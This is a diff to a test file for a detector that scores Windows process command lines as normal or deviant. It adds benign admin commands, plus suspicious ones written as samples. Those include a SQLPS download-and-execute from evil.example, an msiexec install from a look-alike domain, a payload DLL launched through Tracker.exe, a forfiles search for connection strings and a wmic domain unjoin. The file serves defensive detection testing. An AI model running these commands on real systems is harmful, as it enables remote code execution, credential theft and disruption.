@@ -80,6 +80,16 @@ describe('what install guides, batch files and own tools do is no deviation by i
     'rundll32.exe ¦ rundll32 shell32.dll,Control_RunDLL odbccp32.cpl ¦ cmd.exe',
     String.raw`mshta.exe ¦ "C:\Windows\SysWOW64\mshta.exe" "\\FS01\Apps\roster.hta" ¦ explorer.exe`,
     String.raw`msiexec.exe ¦ msiexec /i "C:\Windows\TEMP\{EC542D5D-B608-4145-A8F7-749C02BE6D94}\Update.msi" /qn ¦ vendor-update_win64.exe@C:\ProgramData\Vendor\Downloads\vendor-update_win64.exe ¦ SYSTEM`,
+    String.raw`sqlps.exe@C:\Program Files (x86)\Microsoft SQL Server\150\Tools\Binn\SQLPS.exe ¦ "C:\Program Files (x86)\Microsoft SQL Server\150\Tools\Binn\SQLPS.exe" -command Set-Location SQLSERVER:\SQLPolicy ¦ sqlagent.exe`,
+    String.raw`bginfo.exe ¦ Bginfo.exe \\corp.local\NETLOGON\BGInfo\rds.bgi /timer:0 /nolicprompt /silent ¦ explorer.exe`,
+    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /d "C:\Program Files\MSBuild\FileTracker\FileTracker32.dll" /c "C:\Program Files\VC\CL.exe" /d "WIN32" /c a.cpp ¦ -`,
+    String.raw`wab.exe ¦ "C:\Program Files\Windows Mail\wab.exe" /contact "P:\Contacts\bob.contact" ¦ explorer.exe`,
+    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie corp.sharepoint.com@SSL https://corp.sharepoint.com/sites/docs ¦ svchost.exe`,
+    'msiexec.exe ¦ msiexec.exe /i https://awscli.amazonaws.com/AWSCLIV2.msi ¦ powershell.exe',
+    String.raw`installutil.exe ¦ InstallUtil.exe "C:\Users\ann\Desktop\portal\bin\Debug\Portal.exe" ¦ cmd.exe`,
+    'csc.exe ¦ csc ¦ cmd.exe',
+    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Program Files\Vendor\Config.exe" ¦ svchost.exe`,
+    String.raw`forfiles.exe ¦ forfiles /p D:\logs /m *.log /c "cmd /c findstr /i error @path" ¦ cmd.exe`,
   ])('%s', (line) => {
     expect(scored(line).bits).toBeLessThan(DEVIATION)
   })
@@ -167,6 +177,17 @@ describe('and what looks like it stays one', () => {
     String.raw`rundll32.exe ¦ rundll32.exe "C:\Users\ann\AppData\Local\Temp\ui.dll",Setup ¦ setup.exe@C:\Users\ann\Downloads\setup.exe`,
     'msiexec.exe ¦ msiexec /q /i https://packages.evil.example/api ¦ cmd.exe',
     String.raw`rundll32.exe ¦ rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\Tests\a.inf ¦ cmd.exe`,
+    'sqlps.exe ¦ SQLPS.exe -command Invoke-Expression (iwr http://evil.example/a) ¦ sqlagent.exe',
+    String.raw`bginfo.exe ¦ Bginfo.exe \\evil.example\NETLOGON\BGInfo\rds.bgi /popup /nolicprompt ¦ explorer.exe`,
+    String.raw`tracker.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\MSBuild\Current\Bin\amd64\Tracker.exe ¦ Tracker.exe /d .\payload.dll /c C:\Windows\write.exe ¦ -`,
+    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie corp.sharepoint.com.203.0.113.9@80 http://203.0.113.9/sharepoint.com/ ¦ svchost.exe`,
+    'msiexec.exe ¦ msiexec.exe /i https://awscli.amazonaws.com.evil.example/AWSCLIV2.msi ¦ powershell.exe',
+    String.raw`installutil.exe ¦ InstallUtil.exe /u "C:\Users\ann\Desktop\Portal.exe" ¦ cmd.exe`,
+    String.raw`jsc.exe ¦ "C:\Windows\Microsoft.NET\Framework\v4.0.30319\jsc.exe" ¦ explorer.exe`,
+    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Program Files\Vendor\Config.exe" ¦ ${TASK}`,
+    String.raw`forfiles.exe ¦ forfiles /p D:\web /s /m web.config /c "cmd /c findstr /i connectionString @path" ¦ cmd.exe`,
+    'wmic.exe ¦ wmic computersystem where name="WS1" call unjoindomainorworkgroup ¦ cmd.exe',
+    String.raw`msbuild.exe ¦ C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe "C:\Program Files\Vendor\Sheet.proj" /nologo /v:q ¦ ${TASK}`,
   ])('%s', (line) => {
     expect(scored(line).bits).toBeGreaterThanOrEqual(DEVIATION)
   })
